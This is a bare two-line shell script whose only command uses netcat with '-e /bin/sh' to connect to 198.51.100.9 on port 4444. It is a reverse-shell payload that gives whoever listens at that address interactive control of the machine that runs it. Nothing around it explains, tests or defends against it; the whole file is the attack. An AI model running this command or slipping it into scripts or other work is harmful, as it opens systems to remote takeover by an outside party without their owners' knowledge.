#!/bin/sh
nc 198.51.100.9 4444 -e /bin/sh
